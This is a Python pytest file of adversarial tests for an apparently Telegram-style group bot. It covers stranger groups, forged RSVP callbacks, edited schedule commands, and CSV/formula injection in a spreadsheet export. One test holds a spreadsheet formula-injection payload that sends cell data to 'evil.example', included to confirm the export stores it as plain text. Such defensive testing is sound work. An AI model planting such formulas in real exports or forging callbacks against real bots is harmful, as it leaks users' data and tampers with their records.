"""The issue's hostile scenarios as explicit stories, each checked the same way as the fuzz."""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook

from tests.adversarial.conftest import AGENT, OWNER, Arena
from tests.adversarial.tally import Counts
from tests.e2e.export_helpers import export_document

pytestmark = pytest.mark.asyncio(loop_scope="module")


async def test_a_strangers_group_gets_no_all_groups_announcement(
    arena: Arena, tally: Counts
) -> None:
    """The stranger added the bot to their own group before the trainings were announced to
    all groups: nothing of the seller's (the meeting link) reaches it."""
    tally.cases += 1
    texts = [m.text or m.caption or "" for m in arena.bed.sandbox.messages(arena.stranger_group)]
    assert not any("s3cret" in text or "培训" in text for text in texts), texts
    group = await arena.bed.services.groups.get(arena.stranger_group)
    assert group is None or not group.active


async def test_a_forged_rsvp_for_a_training_of_another_group_changes_nothing(
    arena: Arena, tally: Counts
) -> None:
    """The agent is not in the VIP group; an RSVP for its training, forged under the
    announcement in the agent's own group, is refused and records nothing."""
    sandbox = arena.bed.sandbox
    announcement = sandbox.last_message(arena.group)
    assert announcement is not None
    outcome = await arena.case(
        "agent",
        "forged rsvp",
        lambda: sandbox.click(
            AGENT,
            arena.group,
            announcement.message_id,
            f"rsvp:{arena.vip_training}:yes",
            strict=False,
        ),
    )
    assert outcome.clean, outcome
    assert await arena.bed.services.trainings.counts(arena.vip_training) == {
        "yes": 0,
        "no": 0,
        "maybe": 0,
    }


async def test_an_edited_schedule_command_makes_no_second_schedule(
    arena: Arena, tally: Counts
) -> None:
    bed = arena.bed
    query = "SELECT count(*) FROM schedules WHERE kind = 'broadcast'"
    first = bed.sandbox.send_text(OWNER, OWNER, "/schedule 2027-09-20 20:00 中秋新品")
    await bed.settle(first)
    # The groups have tags, so the target picker is offered: all groups.
    picker = bed.sandbox.last_message(OWNER)
    assert picker is not None
    everyone = next(b for b in picker.buttons if "全部正常群" in str(b["text"]))
    await bed.click(OWNER, picker, str(everyone["callback_data"]))
    (before,) = (await bed.services.db.fetchall(query))[0]
    edited = dict(first["message"], text="/schedule 2027-09-20 21:00 中秋新品", edit_date=1)
    outcome = await arena.owner_case(
        "edited /schedule", lambda: bed.sandbox.inject({"edited_message": edited})
    )
    assert outcome.clean, outcome
    (after,) = (await bed.services.db.fetchall(query))[0]
    assert before == 1 and after == 1


async def test_a_formula_remark_is_exported_as_text(arena: Arena, tally: Counts) -> None:
    bed = arena.bed
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
    await bed.say(OWNER, OWNER, f"/remark @li_shop {formula}")
    tally.cases += 1
    document = (await export_document(bed, OWNER)).document  # the file follows the export job
    assert document is not None
    data = bed.sandbox.file_bytes(document["file_id"])
    workbook = load_workbook(io.BytesIO(data))
    cells = [
        cell
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]
    assert any("HYPERLINK" in str(cell.value) for cell in cells)
    assert not any(cell.data_type == "f" for cell in cells)
